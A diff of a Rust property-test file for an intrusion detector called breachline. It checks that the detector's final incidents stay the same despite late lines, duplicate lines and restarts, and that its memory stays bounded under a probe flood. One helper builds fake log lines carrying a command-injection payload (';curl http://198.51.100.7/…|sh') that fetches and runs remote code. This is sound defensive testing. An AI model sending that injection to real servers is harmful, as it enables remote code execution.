@@ -3,76 +3,28 @@
 //! Each case is a day and a few hours of one host: services that learn, are used and scanned, and breaches of any scripted kind.
 
 use std::collections::BTreeMap;
+use std::fmt::Write as _;
+use std::net::SocketAddr;
+use std::time::Duration;
 
 use breachline::config::Config;
-use breachline::detector::Detector;
+use breachline::detector::{Detector, Part};
 use breachline::event::HostEvent;
 use breachline::incident::{Incident, Severity};
 use breachline::timestamp::Timestamp;
 use breachline_tests::simulate::access_log::Line;
-use breachline_tests::simulate::chain::{Attack, scripts};
 use breachline_tests::simulate::corpus::Corpus;
 use breachline_tests::simulate::machine::Machine;
 use breachline_tests::simulate::ordinary;
 use breachline_tests::simulate::random::Random;
 use breachline_tests::simulate::scene::Scene;
 use breachline_tests::simulate::service::{Service, host_address};
+use breachline_tests::simulate::story::{BREACH, Story};
 use breachline_tests::simulate::{beginning, later};
 use proptest::prelude::*;
 
 /// Latest that a line may be, seconds: the default bound less what a request itself takes.
 const LATEST: u64 = 6 * 3600 - 120;
-/// When the breach begins, seconds: a day has been learned.
-const BREACH: f64 = 90_000.0;
-
-/// One host's story: everything that happened, without when it is heard of.
-struct Story {
-    events: Vec<HostEvent>,
-    lines: Vec<Line>,
-    /// What an agent that starts at the breach's end reads from /proc.
-    snapshot: Vec<HostEvent>,
-}
-
-fn story(seed: u64) -> Story {
-    let mut random = Random::of(seed, &[21]);
-    let corpus = Corpus::made();
-    let mut machine = Machine::boot(host_address(1), later(beginning(), -3600.0));
-    let instances: Vec<_> = (0..)
-        .zip([0, 1, 2, 6])
-        .map(|(slot, number)| Service::of(number).start(&mut machine, beginning(), 1, slot, 0, &mut random))
-        .collect();
-    let mut lines = Vec::new();
-    for number in 0..600_u32 {
-        let at = later(beginning(), 60.0 + f64::from(number) * 165.0);
-        let instance = random.pick(&instances).clone();
-        let mut scene =
-            Scene { machine: &mut machine, lines: &mut lines, random: &mut random, instance: &instance, at };
-        match scene.random.below(4) {
-            0 => ordinary::visited(&mut scene, &corpus.ordinary),
-            1 => {
-                let client = scene.user();
-                ordinary::scanned(&mut scene, &corpus.hostile, client);
-            }
-            2 => {
-                let (habit, _) = *scene.random.pick(instance.service.profile.habits);
-                ordinary::happens(habit, &mut scene);
-            }
-            _ => scene.refresh(0.0, instance.main),
-        }
-    }
-    let scripts = scripts();
-    let script = scripts[random.index(scripts.len())];
-    let instance = random.pick(&instances).clone();
-    let attack = Attack::of(1, &mut random);
-    let at = later(beginning(), BREACH);
-    let mut scene = Scene { machine: &mut machine, lines: &mut lines, random: &mut random, instance: &instance, at };
-    (script.play)(&mut scene, &attack);
-    let snapshot = machine.snapshot(at);
-    let mut events = std::mem::take(&mut machine.events);
-    events.sort_by_key(|event| event.at);
-    lines.sort_by_key(|line| (line.completed, line.received));
-    Story { events, lines, snapshot }
-}
 
 /// What is heard, in order of arrival.
 #[derive(Clone, Copy)]
@@ -88,7 +40,7 @@ fn heard<'s>(story: &'s Story, delays: &[u64]) -> Vec<(Timestamp, Heard<'s>)> {
         .lines
         .iter()
         .zip(delays.iter().cycle())
-        .map(|(line, delay)| (line.completed.plus(std::time::Duration::from_secs(*delay)), Heard::Line(line)));
+        .map(|(line, delay)| (line.completed.plus(Duration::from_secs(*delay)), Heard::Line(line)));
     let mut all: Vec<_> = events.chain(lines).collect();
     all.sort_by_key(|(at, _)| *at);
     all
@@ -136,12 +88,18 @@ impl Run {
 
     /// The agent stops and starts again: its memory is saved and read, the rest is asked of /proc.
     fn restart(&mut self, snapshot: &[HostEvent]) {
-        let baseline = self.detector.baseline().to_bytes().expect("serialises");
-        let checkpoint = self.detector.checkpoint();
-        self.detector = Detector::restore(&Config::default(), Some(&baseline), Some(&checkpoint)).expect("builds");
+        self.reborn();
         for fact in snapshot {
             self.detector.host(fact, &mut self.raised);
         }
+    }
+
+    /// Only what is saved is left.
+    fn reborn(&mut self) {
+        let baseline = self.detector.baseline().to_bytes().expect("serialises");
+        let before = &self.detector;
+        let restored = Detector::restore(&Config::default(), Some(&baseline), |part| Some(before.checkpoint(part)));
+        self.detector = restored.expect("builds");
     }
 
     /// The last word on every incident, once nothing can change any more.
@@ -196,7 +154,7 @@ proptest! {
 
     #[test]
     fn however_late_each_line_is_the_final_incidents_are_the_same(seed: u64, delays in delays()) {
-        let story = story(seed);
+        let story = Story::of(seed);
         let outline = |run: Run| run.finals().into_iter().map(|(id, last)| (id, last.outline())).collect::<Vec<_>>();
         let at_once = outline(Run::of(&heard(&story, &[0])));
         prop_assert_eq!(outline(Run::of(&heard(&story, &delays))), at_once);
@@ -204,10 +162,10 @@ proptest! {
 
     #[test]
     fn lines_heard_twice_change_nothing(seed: u64, delays in delays(), later_by in 0..3600_u64) {
-        let story = story(seed);
+        let story = Story::of(seed);
         let once = heard(&story, &delays);
         let again = |(at, heard): &(Timestamp, _)| match heard {
-            Heard::Line(_) => Some((at.plus(std::time::Duration::from_secs(later_by)), *heard)),
+            Heard::Line(_) => Some((at.plus(Duration::from_secs(later_by)), *heard)),
             Heard::Event(_) => None,
         };
         let mut twice = once.clone();
@@ -220,7 +178,7 @@ proptest! {
 
     #[test]
     fn lines_for_others_change_nothing(seed: u64, count in 1..2000_u16) {
-        let story = story(seed);
+        let story = Story::of(seed);
         let alone = heard(&story, &[0]);
         let corpus = Corpus::made();
         let mut machine = Machine::boot(host_address(9), later(beginning(), -3600.0));
@@ -241,7 +199,7 @@ proptest! {
 
     #[test]
     fn a_restart_after_the_breach_changes_nothing(seed: u64, delays in delays()) {
-        let story = story(seed);
+        let story = Story::of(seed);
         let all = heard(&story, &delays);
         let straight = Run::of(&all).finals();
         let mut run = Run::new();
@@ -252,4 +210,105 @@ proptest! {
         after.iter().for_each(|(at, heard)| run.hear(*at, *heard));
         prop_assert_eq!(run.finals(), straight);
     }
+
+    #[test]
+    fn restarts_at_any_points_change_nothing(
+        seed: u64,
+        delays in delays(),
+        cuts in proptest::collection::vec(any::<prop::sample::Index>(), 1..4),
+    ) {
+        let story = Story::of(seed);
+        let all = heard(&story, &delays);
+        let straight = Run::of(&all).finals();
+        let mut cuts: Vec<usize> = cuts.iter().map(|cut| cut.index(all.len())).collect();
+        // One in the middle of the breach, whatever else.
+        cuts.push(all.partition_point(|(at, _)| *at < later(beginning(), BREACH + 0.2)));
+        let mut run = Run::new();
+        for (number, (at, one)) in all.iter().enumerate() {
+            if cuts.contains(&number) {
+                run.reborn();
+                let before = all[..number].iter();
+                let events = before.filter_map(|(_, one)| if let Heard::Event(event) = one { Some(*event) } else { None });
+                events.for_each(|event| run.detector.recall(event));
+            }
+            run.hear(*at, *one);
+        }
+        prop_assert_eq!(run.finals(), straight);
+    }
+
+    #[test]
+    fn what_contradicts_a_line_is_another_line_and_takes_nothing_away(seed: u64, delays in delays()) {
+        let story = Story::of(seed);
+        let straight = Run::of(&heard(&story, &delays)).finals();
+        let contradicted: Vec<Line> = story.lines.iter().map(|line| Line { status: 404, ..line.clone() }).collect();
+        let mut both = heard(&story, &delays);
+        both.extend(contradicted.iter().map(|line| (line.completed, Heard::Line(line))));
+        both.sort_by_key(|(at, _)| *at);
+        let found = Run::of(&both).finals();
+        for (id, last) in &straight {
+            let as_bad = found.get(id).is_some_and(|found| found.severity >= last.severity);
+            prop_assert!(as_bad, "{id}: {last:?} became {:?}", found.get(id));
+        }
+    }
+}
+
+/// Probes of the flood; `BREACHLINE_FLOOD=10000000` for the long run, of which one in ten has a client address of its own.
+fn flood() -> u32 {
+    std::env::var("BREACHLINE_FLOOD").ok().and_then(|text| text.parse().ok()).unwrap_or(30_000)
+}
+
+/// When a probe comes: they are spread over twenty minutes around the breach.
+fn probed(number: u32) -> Timestamp {
+    later(beginning(), BREACH - 600.0 + f64::from(number) * 1200.0 / f64::from(flood()))
+}
+
+/// A probe that looks like an exploit, as ALB writes it.
+fn probe(number: u32, target: SocketAddr, text: &mut String) {
+    let [_, second, third, fourth] = (number / 10).to_be_bytes();
+    let at = probed(number);
+    text.clear();
+    let _ = write!(
+        text,
+        "http {at} app/flood/50dc6c495c0c9188 9.{second}.{third}.{fourth}:40100 {target} 0.001 0.001 0.000 404 404 34 366 \
+         \"GET http://shop.example:80/{number}?q=;curl%20http://198.51.100.7/{number}|sh HTTP/1.1\" \"probe\" - - \
+         arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop/73e2d6bc24d8a067 \"Root=1-1-2\" \"-\" \"-\" 0 {at} \
+         \"forward\" \"-\" \"-\" \"{target}\" \"404\" \"-\" \"-\""
+    );
+}
+
+#[test]
+fn a_flood_of_probes_from_everywhere_leaves_a_bounded_memory_and_the_breach_in_it() {
+    let mut found = 0;
+    for seed in 0..6 {
+        let story = Story::of(seed);
+        let straight = Run::of(&heard(&story, &[0])).finals();
+        let begins = later(beginning(), BREACH);
+        let whole: Vec<_> = straight.iter().filter(|(_, last)| last.stages >= 2 && !last.requests.is_empty()).collect();
+        let target = story.lines.iter().find(|line| line.received >= begins).map(|line| line.target);
+        let (Some(target), false) = (target, whole.is_empty()) else { continue };
+        let mut run = Run::new();
+        let mut text = String::new();
+        let mut probes = 0;
+        for (at, one) in heard(&story, &[0]) {
+            while probes < flood() && probed(probes) <= at {
+                probe(probes, target, &mut text);
+                run.detector.edge("flood", text.as_bytes(), &mut run.raised);
+                probes += 1;
+            }
+            run.hear(at, one);
+        }
+        assert_eq!(probes, flood());
+        for (part, bound) in [(Part::Chains, 64 << 20), (Part::Edge, 2 << 20), (Part::Coverage, 4 << 20)] {
+            let bytes = run.detector.checkpoint(part).len();
+            eprintln!("seed {seed}: {part:?} {bytes} bytes after {probes} probes");
+            assert!(bytes <= bound, "{part:?} {bytes}");
+        }
+        let finals = run.finals();
+        for (id, last) in whole {
+            let after = finals.get(id);
+            assert!(after.is_some_and(|after| after.stages >= 2), "{seed} {id}: {last:?} became {after:?}");
+            found += 1;
+        }
+    }
+    assert!(found > 0, "no story had a breach to find");
 }
